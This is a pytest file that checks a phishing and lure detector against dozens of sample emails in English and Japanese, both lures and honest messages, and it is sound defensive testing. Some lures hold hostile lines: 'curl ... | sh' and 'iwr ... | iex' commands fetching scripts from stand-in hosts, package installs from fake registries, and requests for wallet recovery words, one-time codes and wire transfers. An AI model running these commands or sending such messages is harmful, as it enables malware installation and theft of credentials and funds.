"""Strangers: what lures of the catalogue write in many words is at least a caution, what honest strangers write is not.

Written after the words of the lexicon and apart from them, to see how far they reach; then the words were mended where
they fell short. The lures that still pass as clear are named, so that nobody takes this list for a measurement.
"""

from pathlib import Path

import pytest

from noroshi.company.load import load_company
from noroshi.company.people import PeopleIndex
from noroshi.company.relation import Relation
from noroshi.detect.evidence import Verdict
from noroshi.detect.verdict import judge_message
from noroshi.detect.weights import default_weights
from noroshi.message.read import read_message
from tests.mail import mail

COMPANY = load_company(Path(__file__).parent.parent.parent / "examples" / "kaiyo" / "company.toml")
A_STRANGER = Relation(learned=400, from_outside=200, seen_once=40)
"""nobody has heard of the author, in a company where one outside message in five comes from somebody new"""

LURES = [
    (
        "00 L05: Your background",
        "Rina <rina@talent-bridge.test>",
        "Your background",
        "Hi Takumi, your security write-ups caught my eye. A Dubai based trading house is building a team and would pay 32,000 USDT a month for someone like you. Shall I send the details?",
    ),
    (
        "01 L05: ご転職のご提案",
        "人事コンサル <info@hr-scout.test>",
        "ご転職のご提案",
        "藤井様のご登壇を拝見しました。年収4,000万円以上、完全リモートのセキュリティ責任者を探しております。条件の詳細をお送りしてもよろしいでしょうか。",
    ),
    (
        "02 L06: Next step",
        "Hiring desk <desk@chain-hire.test>",
        "Next step",
        "Thanks for the chat. Please do the attached mini project before Thursday: check out https://gitlab.com/chain-hire/task, install the dependencies, start the dev server and fix the failing page.",
    ),
    (
        "03 L06: 課題のご案内",
        "選考担当 <senkou@chain-saiyo.test>",
        "課題のご案内",
        "先日はありがとうございました。次の段階として、こちらのリポジトリ https://gitlab.com/chain-saiyo/kadai を手元に落として起動し、不具合を直して提出してください。期限は木曜です。",
    ),
    (
        "04 L07: stuck",
        "Piotr <piotr@dev-mate.test>",
        "stuck",
        "Hey, saw your talk. My matching engine dies on startup and I'm out of ideas. Repo is https://github.com/p/engine - mind pulling it and running make demo?",
    ),
    (
        "05 L07: 相談",
        "開発者 <k@dev-mate.test>",
        "相談",
        "はじめまして。自作のボットが起動直後に落ちてしまい困っています。https://github.com/k/bot を取得して動かしてみて、どこで落ちるか教えてもらえませんか。",
    ),
    (
        "06 L08: CVE in your wallet library",
        "Security notice <notice@npm-alerts.test>",
        "CVE in your wallet library",
        "A backdoor was found in the library you depend on. Switch to the cleaned fork at once: npm install @safe-fork/web3-utils --registry https://registry.npm-alerts.test",
    ),
    (
        "07 L08: 脆弱性のお知らせ",
        "通知 <notice@pkg-alert.test>",
        "脆弱性のお知らせ",
        "ご利用中のライブラリに不正なコードが見つかりました。至急、次のコマンドで修正版に入れ替えてください。pip install https://pkg-alert.test/fix.tar.gz",
    ),
    (
        "08 L09: Series B",
        "Aster Ventures <partners@aster-ventures.test>",
        "Series B",
        "We have followed Kaiyo for a year and want to lead your Series B with 40M. Our proposal and the confidentiality agreement are here: https://aster-dataroom.test/kaiyo - please sign today.",
    ),
    (
        "09 L09: 資本参加のご相談",
        "アスター投資 <p@aster-toushi.test>",
        "資本参加のご相談",
        "弊ファンドは貴社への資本参加を検討しております。条件書と守秘契約書をデータルームに置きましたので、ご確認のうえご署名ください。https://aster-dataroom.test/kaiyo",
    ),
    (
        "10 L10: Budget_FY26.xlsx",
        "OneDrive <share@doc-cloud.test>",
        "Budget_FY26.xlsx",
        'Makoto has shared "Budget_FY26.xlsx" with you. Open: https://doc-cloud.test/s/8812',
    ),
    (
        "11 L15: Claim",
        "Legal <legal@case-docs.test>",
        "Claim",
        "The statement of claim is protected. If your PDF program shows only blanks, get the reader from https://case-docs.test/reader and open it again.",
    ),
    (
        "12 L15: 訴状",
        "法務 <l@case-docs.test>",
        "訴状",
        "訴状は暗号化されています。通常の閲覧ソフトでは白紙に見えますので、https://case-docs.test/reader の専用ビューアを入れてからお開きください。",
    ),
    (
        "13 L17: early access",
        "Quant lab <hi@quant-lab.test>",
        "early access",
        "We built a desktop terminal that predicts funding rates. Since you run a desk, you get free access: https://quant-lab.test/download",
    ),
    (
        "14 L17: 先行体験",
        "開発元 <hi@quant-lab.test>",
        "先行体験",
        "資金調達率を予測するデスクトップ版トレーディングソフトを公開しました。取引担当の方に無料でお試しいただけます。https://quant-lab.test/download",
    ),
    (
        "15 L19: Re: call",
        "Kim <kim@fund-call.test>",
        "Re: call",
        "We can see you but hear nothing. Zoom asked us to have guests load this audio component first: https://zoom-audio.test/component",
    ),
    (
        "16 L19: 先ほどの通話",
        "金 <kim@fund-call.test>",
        "先ほどの通話",
        "お声が届いていません。お手数ですが、音声用の部品を https://zoom-audio.test/component から入れて、もう一度お入りください。",
    ),
    (
        "17 L20: Access",
        "Host <h@meet-room.test>",
        "Access",
        "Your location is not allowed to join. Open a terminal and type the line below to lift it: curl -s https://meet-room.test/unlock.sh | sh",
    ),
    (
        "18 L21: Camera not found",
        "Interview bot <i@interview-hub.test>",
        "Camera not found",
        "Your camera driver is missing. Press Win+R, paste the text from the box and hit Enter to continue the interview.",
    ),
    (
        "19 L21: カメラが認識されません",
        "面接システム <i@interview-hub.test>",
        "カメラが認識されません",
        "面接を続けるには、Windowsキーを押しながらRを押し、枠内の文字列を貼り付けてEnterを押してください。",
    ),
    (
        "20 L22: Session",
        "IT partner <it@help-support.test>",
        "Session",
        "To finish the migration, start AnyDesk and tell us the nine digits on the screen. Leave your wallet console open.",
    ),
    (
        "21 L22: 遠隔作業",
        "サポート <it@help-support.test>",
        "遠隔作業",
        "移行作業のため、AnyDeskを起動して表示された9桁の数字をお知らせください。画面は開いたままでお願いします。",
    ),
    (
        "22 L23: Quote for our cover story",
        "Editor <ed@ledger-weekly.test>",
        "Quote for our cover story",
        "We run a cover story on custody and want your CTO on record. Our prep sheet with questions: https://ledger-weekly.test/prep.docm. We record in our own studio client, please set it up beforehand.",
    ),
    (
        "23 L25: 大口案件",
        "取引 <t@liq-desk.test>",
        "大口案件",
        "1200BTCの売り手がいます。文面では差し支えますので、テレグラム @liq_desk へお願いします。",
    ),
    (
        "24 L29: Signature",
        "Counsel <c@sign-notary.test>",
        "Signature",
        "Our firm signs in its own program only. Install NotarySign from https://sign-notary.test/setup and open the deed with it.",
    ),
    (
        "25 L29: 署名のお願い",
        "法律事務所 <c@sign-notary.test>",
        "署名のお願い",
        "当事務所では独自のソフトで署名をいただいております。https://sign-notary.test/setup から導入のうえ、証書をお開きください。",
    ),
    (
        "26 L31: Remittance details",
        "Vendor AR <ar@vendor-office.test>",
        "Remittance details",
        "Please note that from this month our receivables are held at another bank. Kindly settle invoice 3381 to the IBAN in the attached letter; the former account is closed.",
    ),
    (
        "27 L31: お支払い口座について",
        "経理課 <ar@vendor-office.test>",
        "お支払い口座について",
        "都合により取引銀行を変更いたしました。今月分より添付の口座へお支払いくださいますようお願いいたします。従前の口座は解約済みです。",
    ),
    (
        "28 L32: Withdrawal target",
        "Ops <ops@custody-desk.test>",
        "Withdrawal target",
        "Use the address below instead of the one on file for tonight's settlement: bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
    ),
    (
        "29 L32: 送付先の差し替え",
        "運用 <ops@custody-desk.test>",
        "送付先の差し替え",
        "今夜の決済分は、登録済みのものではなく下記へ送ってください。bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
    ),
    (
        "30 L33: Your account review",
        "Exchange care <care@bit-care.test>",
        "Your account review",
        "Our review team needs the six digit code that we just sent to your phone. Answer with it to keep your funds safe.",
    ),
    (
        "31 L33: 口座の確認",
        "取引所サポート <care@bit-care.test>",
        "口座の確認",
        "ただいまお送りした6桁の番号を、このメールにご記入のうえご返送ください。資金を保護するために必要です。",
    ),
    (
        "32 L34: Number transfer",
        "Carrier <info@mobile-care.test>",
        "Number transfer",
        "A transfer of your number to another SIM was requested. If you did not ask for it, stop it here: https://mobile-care.test/stop",
    ),
    (
        "33 L36: Withdrawal stuck",
        "User <user882@users-mail.test>",
        "Withdrawal stuck",
        "My withdrawal has not arrived for three days. I recorded the error, see https://screen-share.test/rec882 and tell me what to do.",
    ),
    (
        "34 L36: 出金できません",
        "利用者 <user882@users-mail.test>",
        "出金できません",
        "3日たっても出金が反映されません。エラーの画面をこちらに上げました。https://screen-share.test/rec882 確認してください。",
    ),
    (
        "35 L01: 捜査協力のお願い",
        "警視庁 <s@keishi-net.test>",
        "捜査協力のお願い",
        "御社のウォレットが犯罪収益の移転に使われました。添付の照会書を開き、顧客一覧をご返送ください。",
    ),
    (
        "36 L01: Audit",
        "Tax office <t@nta-notice.test>",
        "Audit",
        "The National Tax Agency opens an audit of your firm. Download the declaration program and send back the file it makes: https://nta-notice.test/dl",
    ),
    (
        "37 BEC: Project Heron",
        "Managing partner <mp@law-merger.test>",
        "Project Heron",
        "This concerns a takeover that must stay between us. Have 380,000 EUR ready for an escrow deposit this afternoon; I will send the beneficiary shortly.",
    ),
    (
        "38 BEC: 買収案件",
        "弁護士 <b@law-merger.test>",
        "買収案件",
        "社外秘の買収案件につき、ほかの方には伏せてください。本日午後に手付金3,800万円のご送金をお願いします。送金先は追ってお知らせします。",
    ),
    (
        "39 GIFT: small thing",
        "Boss <b@office-line.test>",
        "small thing",
        "I need five Apple cards for clients, 100 each. Grab them on your break, scratch the back and mail me photos.",
    ),
    (
        "40 GIFT: 頼み",
        "上司 <b@office-line.test>",
        "頼み",
        "取引先に渡すAppleギフトカードを5枚、コンビニで買ってきてほしい。裏の番号を撮って送って。",
    ),
    (
        "41 L05: confidential search",
        "Head of talent <t@orbit-talent.test>",
        "confidential search",
        "We are filling a chief security post for a fund with 2bn under management. Package is 450k plus tokens. I was told you are the person to ask.",
    ),
    (
        "42 L05: 非公開求人のご紹介",
        "エージェント <a@orbit-talent.test>",
        "非公開求人のご紹介",
        "加藤様のご経歴に関心を持ち、ご連絡しました。海外ファンドの非公開ポジションで、報酬は現職の3倍を想定しています。",
    ),
    (
        "43 L06: Your take-home",
        "Assessment <a@code-check.test>",
        "Your take-home",
        "Clone the repo, run docker compose up and send us a screenshot of the dashboard within a day. https://github.com/code-check/wallet-task",
    ),
    (
        "44 L06: 実技試験",
        "技術選考 <a@code-check.test>",
        "実技試験",
        "添付のプロジェクトを展開し、手順書どおりに起動した画面をお送りください。制限時間は24時間です。https://github.com/code-check/wallet-task",
    ),
    (
        "45 L07: quick look?",
        "Sven <s@builder.test>",
        "quick look?",
        "My PR breaks CI and nobody replies. Would you clone https://github.com/s/fork, do yarn and yarn start, and say what you see?",
    ),
    (
        "46 L08: Action for signers",
        "Lib team <team@lib-sec.test>",
        "Action for signers",
        "Your version of the signing module leaks keys. Please run pip install --extra-index-url https://lib-sec.test/simple signer-core on all hosts.",
    ),
    (
        "47 L09: Strategic stake",
        "Crest Capital <ir@crest-cap.test>",
        "Strategic stake",
        "Our committee approved buying a 9 percent stake in your company. Open the mandate letter at https://crest-room.test/m and confirm by tonight.",
    ),
    (
        "48 L09: 出資条件のご提示",
        "クレスト <ir@crest-cap.test>",
        "出資条件のご提示",
        "投資委員会にて貴社への出資が承認されました。条件は https://crest-room.test/m の書面にございます。本日中にご確認ください。",
    ),
    (
        "49 L10: Kaiyo_Reorg_2026.docx",
        "SharePoint <no-reply@sp-files.test>",
        "Kaiyo_Reorg_2026.docx",
        "A colleague shared a confidential file with you. Sign in with your work password to open it: https://sp-files.test/o",
    ),
    (
        "49 L10: 組織改編案.docx",
        "共有 <no-reply@sp-files.test>",
        "組織改編案.docx",
        "同僚から機密文書が共有されました。会社のパスワードでサインインしてご覧ください。https://sp-files.test/o",
    ),
    (
        "50 L15: Summons",
        "Court office <c@e-court.test>",
        "Summons",
        "The summons opens only in the court's reader, which you can install at https://e-court.test/r.",
    ),
    (
        "51 L15: 呼出状",
        "裁判所 <c@e-court.test>",
        "呼出状",
        "呼出状は当庁の閲覧ソフトでのみ開けます。https://e-court.test/r よりインストールしてください。",
    ),
    (
        "52 L17: beta key",
        "Arb bot team <x@arb-bot.test>",
        "beta key",
        "Your beta key for our arbitrage bot is inside. Install the Mac client from https://arb-bot.test/mac and link your exchange account.",
    ),
    (
        "53 L17: ベータ版のご招待",
        "裁定ボット <x@arb-bot.test>",
        "ベータ版のご招待",
        "裁定取引ボットのベータ版にご招待します。下記からアプリを入れ、取引所の口座とつないでください。https://arb-bot.test/mac",
    ),
    (
        "54 L18: Investor call",
        "Invite <cal@zoom-us07.test>",
        "Investor call",
        "You are invited to a Zoom meeting. Join: https://us07web-zoom.test/j/8829",
    ),
    (
        "55 L18: 投資家との面談",
        "招待 <cal@zoom-us07.test>",
        "投資家との面談",
        "Zoomミーティングに招待されています。参加はこちら https://us07web-zoom.test/j/8829",
    ),
    (
        "56 L19: no sound",
        "Moderator <m@call-panel.test>",
        "no sound",
        "Nobody hears you. Download the Zoom SDK update from https://call-panel.test/sdk and come back in.",
    ),
    (
        "57 L20: blocked region",
        "Organizer <o@call-panel.test>",
        "blocked region",
        "Zoom blocks your country. Paste this in PowerShell and retry: iwr https://call-panel.test/fix.ps1 | iex",
    ),
    (
        "58 L21: Verification",
        "Captcha <c@verify-page.test>",
        "Verification",
        "Prove that you are not a robot: press Windows+R, then CTRL+V, then Enter.",
    ),
    (
        "59 L22: We need your screen",
        "Helpdesk <h@remote-fix.test>",
        "We need your screen",
        "Please install AnyDesk, accept our request and share your entire screen so we can finish the update.",
    ),
    (
        "60 L22: 遠隔対応のお願い",
        "ヘルプデスク <h@remote-fix.test>",
        "遠隔対応のお願い",
        "更新を完了するため、TeamViewerをインストールし、表示されるIDとパスワードをお知らせください。",
    ),
    (
        "61 L23: Episode 200",
        "Host <h@coin-cast.test>",
        "Episode 200",
        "We'd love you on episode 200 of our podcast. Pick a time: https://coin-cast.test/book. Our recording app is needed, you will find it on the page.",
    ),
    (
        "62 L23: 出演のご依頼",
        "番組 <h@coin-cast.test>",
        "出演のご依頼",
        "番組へのご出演をお願いしたく存じます。収録には当社のアプリが必要です。事前にこちらから導入ください。https://coin-cast.test/book",
    ),
    (
        "63 L25: Deal",
        "Broker <b@coin-broker.test>",
        "Deal",
        "Let's move this to WhatsApp, I can be reached at +65 8000 0000. Please do not mention it to others.",
    ),
    (
        "64 L25: ご相談",
        "仲介 <b@coin-broker.test>",
        "ご相談",
        "今後のやり取りはLINEでお願いします。IDは coin_broker です。他の方には内密に願います。",
    ),
    (
        "65 L31: New bank",
        "Supplier billing <b@office-supply-co.test>",
        "New bank",
        "We changed our bank. Please pay open invoices to the new account below from now on. Our phones are down this week, so use mail only.",
    ),
    (
        "66 L31: 口座変更のお願い",
        "仕入先 <b@office-supply-co.test>",
        "口座変更のお願い",
        "振込口座を変更しましたので、未払い分は新しい口座へお振り込みください。電話は工事中のためメールでご連絡ください。",
    ),
    (
        "67 L32: address update",
        "Settlement <s@liq-partner.test>",
        "address update",
        "Our deposit address has been rotated after an audit. Whitelist 0x52908400098527886E0F7030069857D2E4169EE7 and send the next batch there.",
    ),
    (
        "68 L33: Locked",
        "Support <s@wallet-help.test>",
        "Locked",
        "Your wallet was locked. Reply with your recovery words so that we can unlock it.",
    ),
    (
        "69 L33: ロックのお知らせ",
        "サポート <s@wallet-help.test>",
        "ロックのお知らせ",
        "ウォレットがロックされました。解除のため、復元フレーズを返信してください。",
    ),
    (
        "70 L34: eSIM発行のお知らせ",
        "キャリア <c@tel-care.test>",
        "eSIM発行のお知らせ",
        "eSIMの発行を受け付けました。お心当たりのない場合は、こちらで取り消してください。https://tel-care.test/c",
    ),
    (
        "71 L35: Application",
        "Candidate <c@dev-remote.test>",
        "Application",
        "I am applying for the Solidity role. Code samples: https://github.com/dev-remote/samples (clone and run npm start to see them).",
    ),
    (
        "72 L36: cannot log in",
        "Client <c@mail-user.test>",
        "cannot log in",
        "I cannot log in since your update. Video of the error: https://clip-host.test/v/99. Please look at it quickly.",
    ),
    (
        "73 L01: 立入検査の事前提出",
        "金融庁 <f@fsa-kensa.test>",
        "立入検査の事前提出",
        "金融庁より立入検査のご連絡です。添付の様式を開き、ウォレットの一覧を本日中にご提出ください。",
    ),
    (
        "74 L01: Case 44",
        "FBI <f@fbi-case.test>",
        "Case 44",
        "The FBI asks you to run the attached collection tool on your signing servers and return its output.",
    ),
    (
        "75 BEC: Transfer",
        "CEO office <o@board-mail.test>",
        "Transfer",
        "Please wire 92,000 USD to the account below today. I am in meetings, keep this confidential and confirm when done.",
    ),
    (
        "76 BEC: 送金の件",
        "役員室 <o@board-mail.test>",
        "送金の件",
        "本日中に下記口座へ920万円を送金してください。会議中のため電話には出られません。本件は内密に。",
    ),
    (
        "77 GIFT: Favor",
        "Dept head <d@dept-mail.test>",
        "Favor",
        "Can you buy Google Play cards worth 400 for the team raffle? Send the codes here, I'll pay you back.",
    ),
    (
        "78 PHISH: Quota",
        "Mail admin <a@mail-quota.test>",
        "Quota",
        "Your mailbox is nearly full. Confirm your account or messages will be lost: https://mail-quota.test/c",
    ),
    (
        "79 PHISH: 容量超過",
        "メール管理 <a@mail-quota.test>",
        "容量超過",
        "メールボックスの容量が上限に達しました。下記よりアカウントを確認しないと受信できなくなります。https://mail-quota.test/c",
    ),
    (
        "80 EXT: your data",
        "Anon <a@dark-mail.test>",
        "your data",
        "We copied your customer database. Pay 4 BTC within 48 hours or we publish it.",
    ),
    (
        "81 EXT: データの件",
        "匿名 <a@dark-mail.test>",
        "データの件",
        "顧客データを入手した。48時間以内に4BTCを支払わなければ公開する。",
    ),
]

STILL_CLEAR = [
    (
        "L10: 資料が共有されました",
        "共有通知 <share@doc-cloud.test>",
        "資料が共有されました",
        "渡邉さんが「取締役会資料.pdf」をあなたと共有しました。表示するにはこちら https://doc-cloud.test/s/8812",
    ),
    (
        "L13: 請求書(3月分)",
        "経理 <k@jimu-daikou.test>",
        "請求書(3月分)",
        "請求書をお送りします。ファイルは https://jimu-daikou.test/dl/inv.zip から、解凍パスワードは 0325 です。",
    ),
    (
        "L24: Speaker slot",
        "Summit team <team@block-summit.test>",
        "Speaker slot",
        "The committee picked you for the main stage. Upload passport and slides in the speaker portal, which needs the summit app: https://block-summit.test/app",
    ),
    (
        "L25: Large block",
        "Ivan <ivan@liq-desk.test>",
        "Large block",
        "I have 1,200 BTC to place quietly. Mail is not the place for this. Signal: +44 7000 000000",
    ),
    (
        "L35: Senior engineer",
        "Applicant <alex@free-dev.test>",
        "Senior engineer",
        "I would like to apply as a remote engineer. My portfolio and sample project are packed here: https://free-dev.test/alex.zip. I can only work with my own laptop and no video.",
    ),
    (
        "L24: Panel",
        "Expo <e@web3-expo.test>",
        "Panel",
        "We invite you to join our panel in Singapore. Fill in the speaker form and download the programme: https://web3-expo.test/p",
    ),
]

HONEST = [
    (
        "ソフト販売 <sales@kintai-soft.test>",
        "勤怠管理ソフトのご案内",
        "はじめまして。勤怠管理ソフトを扱っております星野と申します。無料でお試しいただけますので、よろしければ資料をご覧ください。https://kintai-soft.test/",
    ),
    (
        "展示会事務局 <info@fintech-expo.test>",
        "出展のご案内",
        "10月のフィンテック展への出展をご案内いたします。出展申込書を添付いたします。ご不明点は事務局までお問い合わせください。",
    ),
    (
        "Rie <rie@travel-desk.test>",
        "Your itinerary",
        "Your flight to Singapore is confirmed. Boarding pass and invoice are attached. Please check in online 24 hours before departure.",
    ),
    (
        "採用 佐々木 <sasaki@jinzai.test>",
        "候補者のご紹介",
        "お世話になっております。人材紹介のササキです。コンプライアンス職の候補者を1名ご推薦いたします。職務経歴書を添付しましたのでご確認ください。",
    ),
    (
        "Dev relations <devrel@node-api.test>",
        "SDK 3.0 is out",
        "We released version 3.0 of our SDK. Upgrade with npm install @node-api/sdk@3. Release notes: https://docs.node-api.test/3 Unsubscribe: https://node-api.test/u",
    ),
    (
        "顧客 <tanaka8812@users-mail.test>",
        "入金が反映されません",
        "昨日の入金がまだ反映されていません。取引履歴の画面を添付します。ご確認をお願いします。",
    ),
    (
        "Customer <joy@users-mail.test>",
        "Withdrawal",
        "My withdrawal is pending since Monday. Screenshot attached. Please check.",
    ),
    (
        "銀行 <houjin@mirai-bank.test>",
        "ネットバンキングのメンテナンス",
        "3月8日(日)0時から6時まで、システムメンテナンスのためログインできません。ご不便をおかけします。",
    ),
    (
        "IR <ir@listed-co.test>",
        "決算説明会のご案内",
        "決算説明会をZoomで開催いたします。参加をご希望の方は下記よりご登録ください。https://us02web.zoom.us/webinar/register/1",
    ),
    (
        "大学 <koho@touto-u.test>",
        "学生インターンのお願い",
        "東都大学の就職課です。夏のインターンシップの受け入れをお願いできないでしょうか。募集要項がございましたらお送りください。",
    ),
    (
        "印刷会社 <eigyo@print.test>",
        "見積書",
        "お見積書をお送りします。お支払いは月末締め翌月末払いで、下記口座へお振込みをお願いいたします。三光銀行 普通 1234567",
    ),
    (
        "Landlord <office@tower-mgmt.test>",
        "Elevator maintenance",
        "Elevators 3 and 4 will be out of service on Saturday morning. We apologise for the inconvenience.",
    ),
    (
        "弁護士 小川 <ogawa@ogawa-law.test>",
        "契約書レビュー",
        "お世話になっております。ご依頼の契約書のレビュー結果をお送りします。修正箇所をご確認のうえ、ご返信ください。",
    ),
    (
        "監査法人 <team@audit-firm.test>",
        "残高確認状",
        "期末監査のため残高確認状をお送りします。ご記入のうえ、3月20日までにご返送ください。",
    ),
    (
        "Auditor <pbc@audit-firm.test>",
        "PBC list",
        "Please find the request list attached. We need the wallet reconciliation and the list of customer balances by Friday.",
    ),
    (
        "CloudSign <support@cloudsign.jp>",
        "署名依頼",
        "星野商事様から書類の確認依頼が届いています。内容をご確認のうえ、ご署名ください。https://www.cloudsign.jp/documents/1",
    ),
    (
        "保険 <info@hoken.test>",
        "サイバー保険のご提案",
        "貴社のリスクに合わせたサイバー保険をご提案いたします。ご面談の機会をいただけますと幸いです。",
    ),
    (
        "Journalist <mori@tsushin.test>",
        "取材のお願い",
        "通信社の森です。暗号資産の税制について、広報の方にお話を伺いたくご連絡しました。電話で15分ほどお願いできますか。",
    ),
    (
        "Podcast <hello@money-talk.test>",
        "Guest?",
        "I host a small podcast on payments and would love to have your compliance lead as a guest. Would next Thursday work?",
    ),
    (
        "Recruiter <anna@search-firm.test>",
        "Role at a bank",
        "Hi, I work on a head of security role at a Tokyo bank. Your profile on LinkedIn looks like a good fit. Would you be open to a call?",
    ),
    (
        "VC <kato@vc-fund.test>",
        "ご挨拶",
        "ベンチャーキャピタルの加藤と申します。貴社の資金調達のご予定について、一度意見交換の機会をいただけますでしょうか。",
    ),
    (
        "Vendor <support@firewall-vendor.test>",
        "Case 8812",
        "Please collect a diagnostic file: open a terminal on the appliance and run 'show tech-support', then upload it to the case. Thanks, support.",
    ),
    (
        "Open source <maint@libproj.test>",
        "Re: issue 441",
        "Thanks for the report. Could you try the patch branch? git clone https://github.com/libproj/lib and run make test; tell me what fails.",
    ),
    (
        "社員家族 <mama@family-mail.test>",
        "今日の夕飯",
        "帰りに牛乳を買ってきて。あと、学校の保護者会が明日になったよ。",
    ),
    (
        "ホテル <reserve@hotel.test>",
        "ご予約確認",
        "ご予約ありがとうございます。チェックインは15時からです。ご変更は前日までにお電話でお知らせください。",
    ),
    (
        "宅配 <info@takuhai.test>",
        "お届け予定",
        "お荷物を3月5日午前中にお届けします。ご不在の場合は再配達をご利用ください。",
    ),
    (
        "セミナー <seminar@tax-school.test>",
        "研修のご案内",
        "インボイス制度の研修を開催します。受講には専用サイトへの登録が必要です。https://tax-school.test/entry",
    ),
    (
        "健診 <kenshin@clinic.test>",
        "健康診断のお知らせ",
        "健康診断の問診票を添付します。ご記入のうえ当日ご持参ください。",
    ),
    (
        "協会 <jimukyoku@kyokai.test>",
        "会員向け研修",
        "会員各位 サイバー演習を4月に実施します。参加者名簿を添付の様式でご提出ください。",
    ),
    (
        "Partner API <api@liquidity.test>",
        "API key rotation",
        "We rotate API keys on Sunday. Please generate a new key in your portal before then; the old one stops working at midnight UTC.",
    ),
    (
        "Payment processor <ops@psp.test>",
        "Settlement report",
        "Your weekly settlement report is attached. Payout of USD 12,400 will reach your bank account on Tuesday.",
    ),
    (
        "経理 外注 <bpo@keiri-bpo.test>",
        "経費データの件",
        "2月分の経費データを受領しました。不足している領収書が3件ありますので、本日中にお送りいただけますか。",
    ),
    (
        "Student <lee@uni.test>",
        "Thesis interview",
        "My name is Lee and I am writing my thesis on custody. Could I ask you a few questions by email?",
    ),
    (
        "フリーランス <web@design-free.test>",
        "制作実績",
        "Webデザイナーの三浦と申します。ポートフォリオをご覧いただき、お仕事の機会があればお声がけください。https://miura-design.test/",
    ),
    (
        "応募者 <oda@mail-user.test>",
        "応募書類の送付",
        "カスタマーサポート職に応募いたします。履歴書と職務経歴書を添付いたします。ご査収ください。",
    ),
    (
        "コーヒー会社 <order@coffee.test>",
        "定期便のお知らせ",
        "今月の定期便を発送しました。次回のお引き落としは3月27日です。",
    ),
    (
        "取引先 <hayama@hayama-shoji.test>",
        "担当変更のご挨拶",
        "このたび担当が葉山から工藤に代わりました。今後ともよろしくお願いいたします。",
    ),
    (
        "取引先 <honsha@hayama-shoji.test>",
        "本社移転のお知らせ",
        "本社を移転いたします。電話番号も変更となりますので、お手数ですがご登録の変更をお願いいたします。",
    ),
    (
        "Zoom相手 <nishi@nishi-consul.test>",
        "明日の打ち合わせ",
        "明日の打ち合わせはこちらのURLです。https://us05web.zoom.us/j/1 音声が聞こえない場合はお電話ください。",
    ),
]


def _judged(author: str, subject: str, body: str) -> Verdict:
    raw = mail(
        from_=author, to="藤井 拓海 <t.fujii@kaiyo-exchange.example>", subject=subject, body=body + "\n", auth="pass"
    )
    return judge_message(read_message(raw), PeopleIndex(COMPANY), default_weights(), A_STRANGER)


@pytest.mark.parametrize(("author", "subject", "body"), [each[1:] for each in LURES], ids=[each[0] for each in LURES])
def test_a_lure_is_at_least_a_caution(author: str, subject: str, body: str) -> None:
    verdict = _judged(author, subject, body)
    assert verdict.level != "clear", [(one.signal, one.bits) for one in verdict.evidence]


@pytest.mark.xfail(strict=True, reason="a known gap: too little in it that honest strangers do not write")
@pytest.mark.parametrize(("author", "subject", "body"), [each[1:] for each in STILL_CLEAR])
def test_a_lure_that_is_not_seen_yet(author: str, subject: str, body: str) -> None:
    assert _judged(author, subject, body).level != "clear"


@pytest.mark.parametrize(("author", "subject", "body"), HONEST, ids=[each[1] for each in HONEST])
def test_an_honest_stranger_stays_clear(author: str, subject: str, body: str) -> None:
    verdict = _judged(author, subject, body)
    assert verdict.level == "clear", [(one.signal, one.bits) for one in verdict.evidence]
